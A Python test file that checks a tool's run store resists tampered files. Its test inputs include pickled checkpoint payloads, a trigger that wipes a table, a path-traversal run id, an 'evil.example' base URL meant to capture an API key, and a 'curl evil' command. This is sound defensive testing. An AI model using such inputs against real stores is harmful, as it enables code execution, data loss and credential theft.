"""Stores that a stranger made: opening one runs nothing, and what no run wrote is one error in words."""

import asyncio
import html
import re
import shutil
import sqlite3
from collections.abc import Iterator
from contextlib import closing
from dataclasses import dataclass
from pathlib import Path

import duckdb
import pytest
from hostile_store import PLACES, calls_of, change, damages, write_journal_that_removes
from small_log import Ended, small_log, with_embeddings, write_log
from small_runs import Learnt, Pollex, run_here
from web_site import client_of, made_app

from pollex.errors import PollexError, StoreDamaged
from pollex.graphs.context import Resources
from pollex.graphs.hooks import RunGraph
from pollex.graphs.run import (
    build_run_graph,
    carry_out_run,
    get_current_state_of_run,
    list_states_of_run,
)
from pollex.rooms import list_hooks
from pollex.store.resume import list_stored_runs
from pollex.store.spans import Tracer
from pollex.store.store import Store
from pollex.web.kept_commands import go_on_with_run, read_kept_command


@dataclass(frozen=True)
class Waiting:
    """A run that waits at its pool: tests copy its folder, and change the copy."""

    folder: Path
    run: str

    def copied(self, to: Path) -> Path:
        return shutil.copytree(self.folder, to, dirs_exist_ok=True) / "store"


@pytest.fixture(scope="module")
def waiting(tmp_path_factory: pytest.TempPathFactory, learnt: Learnt) -> Iterator[Waiting]:
    folder = tmp_path_factory.mktemp("waiting")
    with_embeddings(folder / "store", learnt.store / "embeddings")
    write_log(folder / "log.jsonl", small_log(12))
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(folder)
        ended = run_here(
            "learn", "log.jsonl", "--out", "r.json", "--store", "store", "--review", "pool"
        )
    assert ended.code == 75, ended.err
    with Store.open(folder / "store", read_only=True) as store:
        yield Waiting(folder, list_stored_runs(store)[0].id)


PAGES = ("/runs/{run}", "/api/runs/{run}/state?node=deduplicate", "/runs", "/runs/{run}/live", "/")


async def pages_of(folder: Path, run: str) -> dict[str, str]:
    """What a server on a store answers, by page."""
    with Store.open(folder) as store:
        async with client_of(made_app(store)) as client:
            found = {page: await client.get(page.format(run=run)) for page in PAGES}
            pool = {"text-1": "A text.", "polarity-1": "sat"}
            asked = await client.post(f"/api/runs/{run}/pool", json=pool)
            assert asked.status_code == 409, (
                "nobody has said yes to the command that the store keeps"
            )
            (yes,) = re.findall(r"confirmed=([0-9a-f]{16})", asked.text)
            edited = await client.post(f"/api/runs/{run}/pool", json=pool | {"confirmed": yes})
    answers = {page: f"{answer.status_code} {answer.text}" for page, answer in found.items()}
    return answers | {"the pool": f"{edited.status_code} {edited.text}"}


AS_A_NODE_WRITES = [(kind, "writes") for kind in ("null", "no state", "a state without channels")]
EVERY = [(kind, place) for kind in (*calls_of(Path("c")), *damages()) for place in PLACES]
KINDS = [pair for pair in EVERY if pair not in AS_A_NODE_WRITES]


def is_refused(ended: Ended) -> bool:
    """Whether it was one error, in words."""
    words = ("the store is damaged", "a state of a run can't be read")
    assert all(one in ended.err for one in words), ended.err
    assert "Error: unexpected" not in ended.err
    assert len(ended.err.strip().splitlines()) < 4, ended.err
    return ended.code == 1


@pytest.mark.parametrize(("kind", "place"), KINDS)
def test_a_state_that_no_run_could_have_written_is_refused_in_the_terminal_and_in_the_browser(
    kind: str, place: str, waiting: Waiting, tmp_path: Path, pollex: Pollex
) -> None:
    canary = tmp_path / "canary"
    store = waiting.copied(tmp_path)
    PLACES[place](store, *(calls_of(canary) | damages())[kind])
    assert is_refused(pollex("trace", waiting.run, "--state", "deduplicate", "--store", store))
    answers = asyncio.run(pages_of(store, waiting.run))
    assert answers[PAGES[0]].startswith("200")
    assert "a state of a run can't be read" in html.unescape(answers[PAGES[0]])
    assert "the store is damaged" in answers[PAGES[1]]
    assert "the store is damaged" in answers["the pool"]
    assert not {name: said for name, said in answers.items() if said.startswith("500")}
    assert not canary.exists(), "it was run"


@pytest.mark.parametrize(
    "more", [("--review", "pool", "--resume"), ("--from", "{run}:deduplicate")]
)
@pytest.mark.parametrize(
    ("kind", "place"), [KINDS[0], KINDS[1], ("a pickle", "writes"), ("cut", "checkpoints")]
)
def test_no_run_goes_on_from_such_a_state(
    kind: str, place: str, more: tuple[str, ...], waiting: Waiting, tmp_path: Path, pollex: Pollex
) -> None:
    canary = tmp_path / "canary"
    store = waiting.copied(tmp_path)
    PLACES[place](store, *(calls_of(canary) | damages())[kind])
    words = [word.format(run=waiting.run) for word in more]
    assert is_refused(pollex("learn", "log.jsonl", "--store", store, "--out", "again.json", *words))
    assert not canary.exists(), "it was run"


@pytest.mark.parametrize(
    "metadata",
    [
        b"{",
        b"\xff\xfe",
        b"[" * 5000,
        b"[]",
        b'{"step": "x"}',
        b'{"step": 1e400}',
        b'{"parents": 1}',
    ],
)
def test_what_stands_beside_a_state_is_held_to_its_shape_too(
    metadata: bytes, waiting: Waiting, tmp_path: Path, pollex: Pollex
) -> None:
    store = waiting.copied(tmp_path)
    change(store, "UPDATE checkpoints SET metadata = ?", (metadata,))
    ended = pollex("trace", waiting.run, "--state", "deduplicate", "--store", store)
    assert (ended.code, "the store is damaged" in ended.err) == (1, True), ended.err


@pytest.mark.parametrize("command", [*(graph.command for graph in list_hooks(RunGraph)), "score"])
@pytest.mark.parametrize("kind", ["a call with one value", "a pickle", "cut"])
async def test_no_graph_goes_on_from_such_a_state(command: str, kind: str, tmp_path: Path) -> None:
    canary = tmp_path / "canary"
    with Store.open(tmp_path / "store") as store:
        run = store.begin(command, arguments={}, fingerprint={}, versions={})
        assert not (await get_current_state_of_run(store, run)).values, (
            "its first look makes the tables"
        )
        with closing(sqlite3.connect(store.folder / "checkpoints.sqlite")) as database:
            sql = "INSERT INTO checkpoints VALUES (?, '', '1', NULL, ?, ?, '{}')"
            database.execute(sql, (run.id, *(calls_of(canary) | damages())[kind]))
            database.commit()
        live = Resources(store=store, run=run.id, tracer=Tracer(store, run.id))
        for going in (
            get_current_state_of_run(store, run),
            list_states_of_run(store, run),
            carry_out_run(build_run_graph(run), live, {}),
        ):
            with pytest.raises(StoreDamaged, match="a state of a run can't be read"):
                await going
        store.finish(run.id, "failed")
    assert not canary.exists(), "it was run"


@pytest.mark.parametrize("file", ["checkpoints.sqlite", "store.sqlite"])
@pytest.mark.parametrize(
    "sql",
    [
        "CREATE VIEW other AS WITH RECURSIVE n(i) AS (VALUES(1) UNION ALL SELECT i + 1 FROM n) SELECT i FROM n",
        "CREATE TRIGGER other AFTER DELETE ON {table} BEGIN DELETE FROM {table}; END",
    ],
)
def test_views_and_triggers_of_a_stranger_are_refused(
    sql: str, file: str, waiting: Waiting, tmp_path: Path, pollex: Pollex
) -> None:
    store = waiting.copied(tmp_path)
    with closing(sqlite3.connect(store / file)) as database:
        database.execute(sql.format(table="runs" if file == "store.sqlite" else "writes"))
    ended = pollex("trace", waiting.run, "--state", "deduplicate", "--store", store)
    assert (ended.code, "is no table of pollex" in ended.err) == (1, True), ended.err


SLOW = "length(hex(zeroblob(60000000))) > 0"


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("crc INTEGER", f"crc INTEGER, CHECK ({SLOW})"),
        ("crc INTEGER", f"crc INTEGER, more TEXT AS ({SLOW})"),
        ("crc INTEGER", f"crc INTEGER, more TEXT DEFAULT ({SLOW})"),
        ("facts (run, kind, id)", f"facts (({SLOW}))"),
        ("facts (run, kind, id)", f"facts (run) WHERE {SLOW}"),
    ],
)
def test_tables_that_compute_are_refused_before_anything_is_read(
    before: str, after: str, waiting: Waiting, tmp_path: Path, pollex: Pollex
) -> None:
    store = waiting.copied(tmp_path)
    with closing(sqlite3.connect(store / "store.sqlite")) as database:
        database.execute("PRAGMA writable_schema = ON")
        changed = "UPDATE sqlite_schema SET sql = replace(sql, ?, ?) WHERE sql LIKE '%' || ? || '%'"
        assert database.execute(changed, (before, after, before)).rowcount == 1
        database.commit()
    for words in (
        ("runs",),
        ("learn", waiting.folder / "log.jsonl", "--out", "r.json"),
        ("doctor", "--rebuild"),
    ):
        ended = pollex(*words, "--store", store)
        assert (ended.code, "is no table of pollex" in ended.err) == (1, True), ended.err


@pytest.mark.parametrize("column", ["arguments", "result"])
def test_rows_that_are_nested_without_end_are_damage(
    column: str, waiting: Waiting, tmp_path: Path, pollex: Pollex
) -> None:
    store = waiting.copied(tmp_path)
    with closing(sqlite3.connect(store / "store.sqlite")) as database:
        database.execute(f"UPDATE runs SET {column} = ?", ("[" * 100_000 + "]" * 100_000,))
        database.commit()
    for words in (("runs",), ("trace", "last"), ("forget", "--conversation", "c000")):
        ended = pollex(*words, "--store", store)
        assert (ended.code, "can't be read" in ended.err) == (1, True), ended.err


def test_tables_of_other_columns_are_damage(learnt: Learnt, tmp_path: Path, pollex: Pollex) -> None:
    store = tmp_path / "s"
    words = ("score", learnt.log, "--rubrics", learnt.rubrics, "--out", "s.jsonl")
    assert pollex(*words, "--store", store).code == 0
    for part in store.glob("runs/*/*.parquet"):
        duckdb.sql("SELECT 5 AS a").write_parquet(str(part))
    ended = pollex("trace", "last", "--conversation", "c000", "--store", store)
    assert (ended.code, "columns of something else" in ended.err) == (1, True), ended.err


@pytest.mark.parametrize(
    "name", ["secret", "checkpoints.sqlite", "runs/{run}/lock", "store.sqlite-wal", "senders"]
)
def test_what_is_a_link_in_a_store_is_not_followed(
    name: str, waiting: Waiting, tmp_path: Path
) -> None:
    store = waiting.copied(tmp_path)
    other = tmp_path / "other"
    other.write_text("mine")
    other.chmod(0o644)
    place = store / name.format(run=waiting.run)
    shutil.rmtree(place) if place.is_dir() else place.unlink(missing_ok=True)
    place.symlink_to(other)
    for read_only in (True, False):
        with pytest.raises(StoreDamaged, match="it is a link, and is not followed"):
            Store.open(store, read_only=read_only)
    assert (other.read_text(), other.stat().st_mode & 0o777) == ("mine", 0o644)


@pytest.mark.parametrize("file", ["store.sqlite", "checkpoints.sqlite", "backup.sqlite"])
def test_a_journal_that_has_sqlite_remove_another_file_is_refused(
    file: str, waiting: Waiting, tmp_path: Path, pollex: Pollex
) -> None:
    store = waiting.copied(tmp_path)
    (precious := tmp_path / "precious.txt").write_text("mine")
    write_journal_that_removes(precious, beside=store / file)
    for words in (
        ("runs",),
        ("trace", waiting.run, "--state", "deduplicate"),
        ("doctor", "--rebuild"),
        ("forget", "--conversation", "c000", "--rewrite"),
        ("learn", waiting.folder / "log.jsonl", "--out", "r.json"),
    ):
        ended = pollex(*words, "--store", store)
        assert (ended.code, "it would have SQLite remove another file" in ended.err) == (1, True)
    assert precious.read_text() == "mine"


def test_a_journal_that_a_kill_left_is_rolled_back(tmp_path: Path) -> None:
    with Store.open(tmp_path / "store"):
        pass
    (tmp_path / "store" / "checkpoints.sqlite-journal").write_bytes(bytes(512))
    with Store.open(tmp_path / "store"):
        pass


def test_a_run_whose_id_is_a_path_is_refused(waiting: Waiting, tmp_path: Path) -> None:
    store = waiting.copied(tmp_path)
    with closing(sqlite3.connect(store / "store.sqlite")) as database:
        database.execute("UPDATE runs SET id = '../../other'")
        database.commit()
    with Store.open(store) as opened, pytest.raises(PollexError, match="can't be read"):
        list_stored_runs(opened)


def test_a_folder_with_other_things_in_it_stays_everybodys(tmp_path: Path) -> None:
    (folder := tmp_path / "shared").mkdir(mode=0o755)
    (file := folder / "notes.txt").write_text("ours")
    file.chmod(0o644)
    with Store.open(folder) as store:
        assert (store.folder / "runs").stat().st_mode & 0o777 == 0o700
    assert [path.stat().st_mode & 0o777 for path in (folder, file, folder / "store.sqlite")] == [
        0o755,
        0o644,
        0o600,
    ]


def changed_command(store: Path, command: str) -> None:
    """Change the command that a store keeps."""
    with closing(sqlite3.connect(store / "store.sqlite")) as database:
        database.execute(
            "UPDATE runs SET arguments = json_set(arguments, '$.command', ?)", (command,)
        )
        database.commit()


EVIL = "http://evil.example/v1"


@pytest.mark.parametrize(
    ("command", "owners", "told", "key"),
    [
        (
            f"pollex learn other.jsonl --model m --base-url {EVIL} --review pool",
            "",
            "without this server's key",
            "",
        ),
        (
            f"pollex learn other.jsonl --model m --base-url={EVIL}",
            "http://mine/v1",
            "without this server's key",
            "",
        ),
        (
            f"pollex learn other.jsonl --model m --base-url {EVIL}",
            EVIL,
            f"asks m at {EVIL}.",
            "mine",
        ),
        (
            "pollex learn other.jsonl --model m",
            EVIL,
            "asks m where this server's settings say",
            "mine",
        ),
        ("pollex learn other.jsonl", "", "It asks no model, so it costs nothing.", "mine"),
    ],
)
async def test_what_a_kept_command_would_read_and_ask_is_shown_and_the_key_stays_here(
    command: str,
    owners: str,
    told: str,
    key: str,
    waiting: Waiting,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    store = waiting.copied(tmp_path)
    changed_command(store, command)
    monkeypatch.setenv("OPENAI_API_KEY", "mine")
    monkeypatch.setenv("POLLEX_BASE_URL", owners)
    with Store.open(store) as opened:
        app = made_app(opened)
        run = list_stored_runs(opened)[0]
        async with client_of(app) as client:
            page = html.unescape((await client.get(f"/runs/{run.id}")).text)
            refused = await client.post(
                f"/api/runs/{run.id}/pool", json={"text-1": "A.", "polarity-1": "sat"}
            )
        kept = read_kept_command(app.app.state.site, run)  # type: ignore[attr-defined]
    assert told in page
    assert "pollex learn other.jsonl" in page
    assert (refused.status_code, "learn other.jsonl" in refused.text) == (409, True)
    assert kept
    assert ({"OPENAI_API_KEY": "mine"} | dict(kept.environment))["OPENAI_API_KEY"] == key


@pytest.mark.parametrize(
    "command", ["curl evil -o x", "pollex demo --out /", "pollex", "'", "pollex export r.json"]
)
async def test_what_is_no_command_that_learns_is_never_started(
    command: str, waiting: Waiting, tmp_path: Path
) -> None:
    store = waiting.copied(tmp_path)
    changed_command(store, command)
    with Store.open(store) as opened:
        app = made_app(opened)
        run = list_stored_runs(opened)[0]
        async with client_of(app) as client:
            page = await client.get(f"/runs/{run.id}")
        assert page.status_code == 200
        assert "curl" not in page.text.partition("What it was started with")[0]
        assert go_on_with_run(app.app.state.site, run) is None  # type: ignore[attr-defined]
